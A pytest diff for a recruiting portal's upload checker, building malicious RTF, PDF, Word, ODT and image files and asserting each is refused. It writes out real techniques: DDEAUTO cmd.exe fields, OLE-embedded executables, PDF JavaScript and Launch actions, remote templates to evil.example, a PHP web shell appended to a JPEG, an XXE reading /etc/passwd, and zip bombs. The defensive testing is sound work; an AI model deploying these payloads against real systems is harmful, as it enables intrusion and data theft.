@@ -1,0 +1,652 @@
+"""Hostile files made with published techniques, and the legitimate files they look like.
+
+Every attack is tried twice: on `check_upload` (the exact refusal code) and through the HTTP
+API as a recruiter would upload it (the same code, and not one request reaches Kombo). The
+look-alikes come from third-party writers (python-docx, odfpy, reportlab, Pillow, pikepdf)
+and must be accepted. The files are built here, in code: no binary blobs.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pikepdf
+import pytest
+import samples
+from conftest import find_application, record
+
+from portal.filetype import Accepted, FileRefused, check_upload
+
+PDF = "application/pdf"
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+DOC = "application/msword"
+ODT = "application/vnd.oasis.opendocument.text"
+RTF = "application/rtf"
+TXT = "text/plain"
+JPEG = "image/jpeg"
+PNG = "image/png"
+
+REL = samples.REL
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
+
+
+# --------------------------------------------------------------------------- RTF
+
+
+def _ole1(class_name: str, native: bytes) -> bytes:
+    """An OLE 1.0 embedded object (MS-OLEDS 2.2), as RTF's \\objdata carries it."""
+
+    def lp(text: str) -> bytes:
+        raw = text.encode() + b"\x00" if text else b""
+        return struct.pack("<I", len(raw)) + raw
+
+    return (
+        struct.pack("<II", 0x0501, 2)
+        + lp(class_name)
+        + lp("")
+        + lp("")
+        + struct.pack("<I", len(native))
+        + native
+    )
+
+
+def _rtf(body: str) -> bytes:
+    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\n" + body + "\n\\par}\n").encode()
+
+
+PACKAGE_EXE = _ole1("Package", samples.ole_package("invoice.exe", EXE)[4:])
+EQUATION = _ole1("Equation.3", samples.ole2({"Equation Native": b"\x1c\x00\x00\x00\x02" * 40}))
+
+RTF_ATTACKS = {
+    "rtf-object-package-exe": (
+        _rtf("{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + PACKAGE_EXE.hex() + "}}"),
+        "file_embedded_files",
+    ),
+    "rtf-object-objupdate": (
+        _rtf(
+            "{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}"
+            "{\\*\\objdata " + PACKAGE_EXE.hex() + "}}"
+        ),
+        "file_embedded_files",
+    ),
+    "rtf-equation-editor": (
+        _rtf("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata " + EQUATION.hex() + "}}"),
+        "file_embedded_files",
+    ),
+    # Obfuscation rtfobj knows: whitespace, an unknown destination and \bin-free noise in the
+    # hex, and no \objclass at all.
+    "rtf-object-obfuscated-hex": (
+        _rtf(
+            "{\\object\\objemb{\\*\\objdata \n"
+            + " ".join(PACKAGE_EXE.hex()[i : i + 7] for i in range(0, len(PACKAGE_EXE.hex()), 7))
+            + "{\\*\\panose 0000}}}"
+        ),
+        "file_embedded_files",
+    ),
+    "rtf-remote-template": (
+        _rtf("{\\*\\template http://evil.example/t.dotm}Jane Doe"),
+        "file_remote_content",
+    ),
+    "rtf-ddeauto-field": (
+        _rtf(
+            '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}'
+            "{\\fldrslt Jane}}"
+        ),
+        "file_remote_content",
+    ),
+    "rtf-includepicture-unc": (
+        _rtf(
+            '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" \\\\d}'
+            "{\\fldrslt }}"
+        ),
+        "file_remote_content",
+    ),
+}
+
+
+# --------------------------------------------------------------------------- PDF
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
+PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
+JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+def _js_in_object_stream(filter_: str) -> bytes:
+    return samples.pdf15({1: CATALOG, 2: PAGES, 3: JS}, {2, 3}, filter_)
+
+
+def _type_as_reference() -> bytes:
+    """The object stream's /Type is `9 0 R` (a name object elsewhere), not a literal name."""
+    data = samples.pdf15({1: CATALOG, 2: PAGES, 3: JS, 9: b"/ObjStm"}, {2, 3}, "flate")
+    assert data.count(b"<< /Type /ObjStm") == 1
+    return data.replace(b"<< /Type /ObjStm", b"<< /Type 9 0 R  ")  # same length: offsets hold
+
+
+def _classic(*objects: bytes) -> bytes:
+    """A PDF with a classic xref table; object 1 is the catalog, 2 the page tree."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return bytes(out)
+
+
+ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+
+
+def _page(extra: bytes) -> bytes:
+    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + extra + b" >>"
+
+
+def _open_action(action: bytes) -> bytes:
+    return _classic(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, action)
+
+
+def _link(action: bytes) -> bytes:
+    annot = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A " + action + b" >>"
+    return _classic(
+        b"<< /Type /Catalog /Pages 2 0 R >>", ONE_PAGE, _page(b"/Annots [4 0 R]"), annot
+    )
+
+
+def _with_pikepdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
+    pdf = pikepdf.open(io.BytesIO(samples.reportlab_cv()))
+    change(pdf)
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return out.getvalue()
+
+
+def _attach(pdf: pikepdf.Pdf) -> None:
+    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, EXE, mime_type="x/x")
+
+
+def _xfa(pdf: pikepdf.Pdf) -> None:
+    xfa = pdf.make_stream(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
+        b'<event activity="initialize"><script contentType="application/x-javascript">'
+        b"app.alert(1)</script></event></subform></template></xdp:xdp>"
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
+
+
+def _annotation(subtype: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
+    def change(pdf: pikepdf.Pdf) -> None:
+        annot = pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name("/" + subtype),
+                Rect=pikepdf.Array([72, 72, 200, 200]),
+                **entries,
+            )
+        )
+        pdf.pages[0].obj.Annots = pikepdf.Array([annot])
+
+    return change
+
+
+def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
+    spec = pikepdf.AttachedFileSpec(pdf, EXE, mime_type="x/x").obj
+    _annotation("FileAttachment", FS=spec, Contents=pikepdf.String("cv"))(pdf)
+
+
+PDF_ATTACKS = {
+    "pdf-js-objstm-asciihex": (_js_in_object_stream("hex"), "file_active_content"),
+    "pdf-js-objstm-ascii85-flate": (_js_in_object_stream("a85flate"), "file_active_content"),
+    "pdf-js-objstm-png-predictor": (_js_in_object_stream("png"), "file_active_content"),
+    "pdf-objstm-type-indirect": (_type_as_reference(), "file_active_content"),
+    "pdf-js-after-stream-string": (
+        _open_action(b"<< /S /Rendition /OP 0 /T (stream\n) /JS (app.alert\\(1\\)) >>"),
+        "file_active_content",
+    ),
+    "pdf-js-escaped-name-in-objstm": (
+        samples.pdf15(
+            {1: CATALOG, 2: PAGES, 3: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"},
+            {3},
+            "png",
+        ),
+        "file_active_content",
+    ),
+    "pdf-xfa": (_with_pikepdf(_xfa), "file_active_content"),
+    "pdf-gotor-on-open": (
+        _open_action(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >>"),
+        "file_active_content",
+    ),
+    "pdf-gotoe-on-open": (
+        _open_action(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),
+        "file_active_content",
+    ),
+    "pdf-launch-link": (_link(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "file_active_content"),
+    "pdf-importdata": (_open_action(b"<< /S /ImportData /F (data.fdf) >>"), "file_active_content"),
+    "pdf-submitform": (
+        _link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>"),
+        "file_active_content",
+    ),
+    "pdf-uri-file-link": (
+        _link(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>"),
+        "file_remote_content",
+    ),
+    "pdf-uri-unc-link": (
+        _link(b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share\\\\cv.pdf) >>"),
+        "file_remote_content",
+    ),
+    "pdf-uri-on-open": (
+        _open_action(b"<< /S /URI /URI (https://evil.example/track) >>"),
+        "file_active_content",
+    ),
+    "pdf-uri-on-page-open": (
+        _classic(
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            ONE_PAGE,
+            _page(b"/AA << /O << /S /URI /URI (https://evil.example/t) >> >>"),
+        ),
+        "file_active_content",
+    ),
+    "pdf-embedded-file": (_with_pikepdf(_attach), "file_embedded_files"),
+    "pdf-file-attachment-annotation": (
+        _with_pikepdf(_file_attachment_annotation),
+        "file_embedded_files",
+    ),
+    "pdf-richmedia": (_with_pikepdf(_annotation("RichMedia")), "file_active_content"),
+    "pdf-3d": (_with_pikepdf(_annotation("3D")), "file_active_content"),
+}
+
+
+# --------------------------------------------------------------------------- Word
+
+
+def _field(*instr: str) -> str:
+    """A complex field whose instruction is split over several runs (as Word saves edits)."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instr
+    )
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + runs
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Jane</w:t></w:r>'
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+DDE_CMD = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+
+
+def _template_rel(type_: str = "attachedTemplate", mode: str = "External") -> str:
+    return (
+        f'<Relationship Id="rId1" Type="{REL}{type_}" '
+        f'Target="http://evil.example/t.dotm" TargetMode="{mode}"/>'
+    )
+
+
+def _utf16_rels() -> bytes:
+    text = (
+        '<?xml version="1.0" encoding="UTF-16"?>'
+        f'<Relationships xmlns="{samples.PKG_RELS}">{_template_rel()}</Relationships>'
+    )
+    return text.encode("utf-16")
+
+
+def _word_with_rels_part(name: str, data: bytes) -> bytes:
+    return samples.word(extra={name: data})
+
+
+def _package_object(filename: str, payload: bytes) -> bytes:
+    """word/embeddings/oleObject1.bin: an OLE Package object carrying a file."""
+    return samples.ole2(
+        {"\x01Ole10Native": samples.ole_package(filename, payload)},
+        root_clsid=bytes.fromhex("0c00030000000000c000000000000046"),
+    )
+
+
+def _embedding(name: str, data: bytes, rel_type: str = "oleObject") -> bytes:
+    return samples.word(
+        body='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+        'r:id="rId9" ProgID="Package"/></w:object></w:r></w:p>',
+        rels=f'<Relationship Id="rId9" Type="{REL}{rel_type}" Target="embeddings/{name}"/>',
+        extra={f"word/embeddings/{name}": data},
+    )
+
+
+def _alt_chunk(rtf: bytes) -> bytes:
+    return samples.word(
+        body='<w:altChunk r:id="rId9"/><w:p><w:r><w:t>Jane</w:t></w:r></w:p>',
+        rels=f'<Relationship Id="rId9" Type="{REL}aFChunk" Target="afchunk.rtf"/>',
+        overrides='<Override PartName="/word/afchunk.rtf" ContentType="application/rtf"/>',
+        extra={"word/afchunk.rtf": rtf},
+    )
+
+
+def _entry_named(name: str) -> bytes:
+    return samples.word(extra={name: b"<x/>"})
+
+
+WORD_ATTACKS = {
+    "docx-ddeauto-split-across-runs": (
+        samples.word(_field(" DD", "EAU", f"TO {DDE_CMD} ")),
+        "file_remote_content",
+    ),
+    "docx-dde-character-reference": (
+        samples.word(_field(f" &#68;&#x44;EAUTO {DDE_CMD} ")),
+        "file_remote_content",
+    ),
+    "docx-dde-in-cdata": (
+        samples.word(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+            f"<![CDATA[ DDEAUTO {DDE_CMD} ]]></w:instrText></w:r>"
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        ),
+        "file_remote_content",
+    ),
+    "docx-dde-fldsimple-in-header": (
+        samples.word(
+            extra={
+                "word/header1.xml": (
+                    f'<w:hdr xmlns:w="{samples.W_NS}"><w:p><w:fldSimple w:instr=" &#68;DE '
+                    f'cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>'
+                ).encode()
+            }
+        ),
+        "file_remote_content",
+    ),
+    "docx-includepicture-unc-field": (
+        samples.word(_field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\x.png" \\\\d ')),
+        "file_remote_content",
+    ),
+    "docx-template-targetmode-charref": (
+        samples.word(settings_rels=_template_rel(mode="&#69;xternal")),
+        "file_remote_content",
+    ),
+    "docx-template-escaped-type": (
+        samples.word(settings_rels=_template_rel(type_="attachedTempl&#97;te")),
+        "file_remote_content",
+    ),
+    "docx-template-utf16-rels": (
+        _word_with_rels_part("word/_rels/settings.xml.rels", _utf16_rels()),
+        "file_remote_content",
+    ),
+    "docx-linked-picture-file-url": (
+        samples.word(
+            rels=f'<Relationship Id="rId5" Type="{REL}image" '
+            'Target="file:///\\\\evil.example\\share\\logo.png" TargetMode="External"/>'
+        ),
+        "file_remote_content",
+    ),
+    "docx-ole-package-with-exe": (
+        _embedding("oleObject1.bin", _package_object("invoice.exe", EXE)),
+        "file_executable",
+    ),
+    "docx-ole-package-with-script": (
+        _embedding("oleObject1.bin", _package_object("readme.js", b"WScript.Shell.Run('calc')")),
+        "file_executable",
+    ),
+    "docx-embeds-xlsm": (
+        _embedding("Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", samples.xlsx(macros=True)),
+        "file_macros",
+    ),
+    "docx-altchunk-rtf-with-object": (
+        _alt_chunk(RTF_ATTACKS["rtf-object-package-exe"][0]),
+        "file_embedded_files",
+    ),
+    "doc-objectpool-package-exe": (
+        samples.word97(
+            {"ObjectPool/_1234567890/\x01Ole10Native": samples.ole_package("invoice.exe", EXE)}
+        ),
+        "file_executable",
+    ),
+    "docx-zip-entry-dotdot": (_entry_named("../../evil.xml"), "file_damaged"),
+    "docx-zip-entry-absolute": (_entry_named("/etc/evil.xml"), "file_damaged"),
+    "docx-zip-entry-backslash": (_entry_named("word\\..\\..\\evil.xml"), "file_damaged"),
+}
+
+
+# --------------------------------------------------------------------------- ODF and images
+
+
+def _odt_with(name: str, data: bytes) -> bytes:
+    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            z.writestr(info, src.read(info))
+        z.writestr(name, data)
+    return out.getvalue()
+
+
+def _truncated_png() -> bytes:
+    data = samples.pillow_png(200, 200)
+    return data[: len(data) // 2]
+
+
+def _truncated_jpeg() -> bytes:
+    data = samples.photo_jpeg(400, 300, exif=False)
+    return data[: len(data) * 2 // 3]
+
+
+OTHER_ATTACKS = {
+    "odt-basic-macros": (
+        _odt_with(
+            "Basic/Standard/Module1.xml", b'<script:module script:name="Module1">Sub Main</>'
+        ),
+        "file_macros",
+    ),
+    "odt-scripts-python": (
+        _odt_with("Scripts/python/evil.py", b"import os\nos.system('calc')\n"),
+        "file_macros",
+    ),
+    "png-truncated": (_truncated_png(), "file_damaged"),
+    "jpeg-truncated": (_truncated_jpeg(), "file_damaged"),
+    "jpeg-with-php-appended": (
+        samples.photo_jpeg() + b"<?php system($_GET['c']); ?>\n",
+        "file_damaged",
+    ),
+    "png-with-data-after-iend": (
+        samples.pillow_png() + b"<script>alert(1)</script>",
+        "file_damaged",
+    ),
+}
+
+ATTACKS = {**RTF_ATTACKS, **PDF_ATTACKS, **WORD_ATTACKS, **OTHER_ATTACKS}
+NAMES = {"rtf": "cv.rtf", "pdf": "cv.pdf", "docx": "cv.docx", "doc": "cv.doc", "odt": "cv.odt"}
+NAMES.update({"png": "photo.png", "jpeg": "photo.jpg"})
+
+
+def _name(case: str) -> str:
+    return NAMES[case.split("-", 1)[0]]
+
+
+# --------------------------------------------------------------------------- look-alikes
+
+GOOD = {
+    "python-docx-cv-link-picture-chart": (samples.python_docx_cv, "Jane Doe CV.docx", DOCX, "CV"),
+    "odfpy-odt": (samples.odfpy_odt, "Lebenslauf.odt", ODT, "CV"),
+    "reportlab-pdf-with-links": (samples.reportlab_cv, "cv.pdf", PDF, "CV"),
+    "scanned-image-pdf": (samples.scanned_pdf, "scan.pdf", PDF, "CV"),
+    "pdfa": (samples.pdfa, "cv-pdfa.pdf", PDF, "CV"),
+    "phone-jpeg-with-exif": (samples.photo_jpeg, "IMG_0001.JPG", JPEG, "OTHER"),
+    "pillow-png": (samples.pillow_png, "diploma.png", PNG, "OTHER"),
+    "latin-1-text": (
+        lambda: "Jürgen Groß\nLebenslauf: Müller & Söhne, Köln\n".encode("latin-1"),
+        "cv.txt",
+        TXT,
+        "CV",
+    ),
+    "utf-16-text": (
+        lambda: "Jürgen Groß\nLebenslauf: 東京, Zürich\n".encode("utf-16"),
+        "cv.txt",
+        TXT,
+        "CV",
+    ),
+    "rtf-with-picture-and-hyperlink": (samples.rtf_cv, "cv.rtf", RTF, "CV"),
+    "doc-without-objects": (samples.word97, "cv.doc", DOC, "CV"),
+    "docx-embedding-a-pdf-package": (
+        lambda: _embedding("oleObject1.bin", _package_object("references.pdf", samples.pdf())),
+        "cv.docx",
+        DOCX,
+        "CV",
+    ),
+}
+
+
+# --------------------------------------------------------------------------- unit tests
+
+
+def _check(tmp_path: Path, data: bytes, name: str, attachment_type: str = "OTHER") -> Accepted:
+    path = tmp_path / "upload"
+    path.write_bytes(data)
+    with path.open("rb") as fh:
+        return check_upload(fh, filename=name, attachment_type=attachment_type)
+
+
+@pytest.mark.parametrize("case", sorted(ATTACKS))
+def test_attack_is_refused(tmp_path: Path, case: str) -> None:
+    data, code = ATTACKS[case]
+    with pytest.raises(FileRefused) as caught:
+        _check(tmp_path, data, _name(case))
+    record("file attacks (check_upload)", tried=1, refused=1)
+    assert caught.value.code == code, caught.value.message
+    assert _name(case) in caught.value.message
+    assert "application/" not in caught.value.message  # plain words, no MIME types
+
+
+@pytest.mark.parametrize("case", sorted(GOOD))
+def test_look_alike_is_accepted(tmp_path: Path, case: str) -> None:
+    build, name, content_type, attachment_type = GOOD[case]
+    accepted = _check(tmp_path, build(), name, attachment_type)
+    assert accepted.content_type == content_type
+
+
+# --------------------------------------------------------------------------- through HTTP
+
+
+@pytest.fixture
+def target(staff, sandbox):
+    iid = sandbox.iid("full")
+    return staff, iid, find_application(staff, iid, email="grace.hopper@example.com")["id"]
+
+
+def _posts(sandbox) -> list[dict]:
+    return [r for r in sandbox.requests_log() if r["method"] == "POST"]
+
+
+@pytest.mark.parametrize("case", sorted(ATTACKS))
+def test_attack_through_the_api_reaches_nobody(target, sandbox, case: str) -> None:
+    staff, iid, aid = target
+    data, code = ATTACKS[case]
+    sandbox.clear_requests()
+    before = len(sandbox.uploads())
+    resp = staff.upload(iid, aid, data, _name(case), "OTHER")
+    posted = _posts(sandbox)
+    record(
+        "file attacks (HTTP)",
+        tried=1,
+        wrongly_accepted=int(resp.status_code < 300),
+        server_errors=int(resp.status_code >= 500),
+    )
+    assert resp.status_code in (415, 422), resp.text
+    assert resp.json()["error"]["code"] == code
+    assert not posted and len(sandbox.uploads()) == before
+
+
+@pytest.mark.parametrize("case", sorted(GOOD))
+def test_look_alike_through_the_api_is_sent(target, sandbox, case: str) -> None:
+    staff, iid, aid = target
+    build, name, content_type, attachment_type = GOOD[case]
+    resp = staff.upload(iid, aid, build(), name, attachment_type)
+    assert resp.status_code == 201, resp.text
+    assert resp.json()["attachment"]["content_type"] == content_type
+
+
+# --------------------------------------------------------------------------- pathological cost
+
+
+def _docx_with_part(name: str, data: bytes) -> bytes:
+    src = zipfile.ZipFile(io.BytesIO(samples.word()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        for info in src.infolist():
+            if info.filename != name:
+                z.writestr(info, src.read(info))
+        z.writestr(name, data)
+    return out.getvalue()
+
+
+PATHOLOGICAL = {
+    # 1 MB of unclosed <Override (quadratic for the old regexes: 61.7 s for one file).
+    "content-types-unclosed-override": (
+        "[Content_Types].xml",
+        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+        b'content-types">' + b"<Override " * 100_000,
+    ),
+    "rels-unclosed-relationship": (
+        "word/_rels/document.xml.rels",
+        b'<?xml version="1.0"?><Relationships xmlns="' + samples.PKG_RELS.encode() + b'">'
+        b"<Relationship " * 70_000,
+    ),
+    "document-many-instrtext": (
+        "word/document.xml",
+        b'<?xml version="1.0"?><w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body>'
+        b"<w:p>" + b"<w:r><w:instrText>instrText " * 40_000,
+    ),
+    "deeply-nested-xml": (
+        "word/document.xml",
+        b'<?xml version="1.0"?><w:document xmlns:w="'
+        + samples.W_NS.encode()
+        + b'">'
+        + b"<w:p>" * 200_000,
+    ),
+    "billion-laughs": (
+        "word/document.xml",
+        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
+        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
+        b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
+        b'<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">'
+        b'<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>'
+        b'<w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body><w:p><w:r><w:t>&h;'
+        b"</w:t></w:r></w:p></w:body></w:document>",
+    ),
+    "xxe-file": (
+        "word/document.xml",
+        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        b'<w:document xmlns:w="' + samples.W_NS.encode() + b'"><w:body><w:p><w:r><w:t>&x;'
+        b"</w:t></w:r></w:p></w:body></w:document>",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(PATHOLOGICAL))
+def test_pathological_xml_is_refused_as_damaged(tmp_path: Path, case: str) -> None:
+    part, data = PATHOLOGICAL[case]
+    with pytest.raises(FileRefused) as caught:
+        _check(tmp_path, _docx_with_part(part, data), "cv.docx")
+    assert caught.value.code == "file_damaged", caught.value.message
+
+
+def test_zip_bomb_inside_an_embedded_part(tmp_path: Path) -> None:
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", b"<Types/>")
+        z.writestr("xl/zeros.bin", bytes(40 * 1024 * 1024))
+    data = _embedding("Microsoft_Excel_Worksheet.xlsx", inner.getvalue(), "package")
+    with pytest.raises(FileRefused) as caught:
+        _check(tmp_path, data, "cv.docx")
+    assert caught.value.code == "file_compression_bomb"
+
+
+def test_pdf_object_stream_bomb(tmp_path: Path) -> None:
+    # 120 MB of objects packed to ~120 KB, behind ASCII85 and Flate.
+    data = samples.pdf15({1: CATALOG, 2: PAGES, 3: JS}, {2, 3}, "a85flate", pad=120 * 1024 * 1024)
+    with pytest.raises(FileRefused) as caught:
+        _check(tmp_path, data, "cv.pdf")
+    assert caught.value.code == "file_compression_bomb"
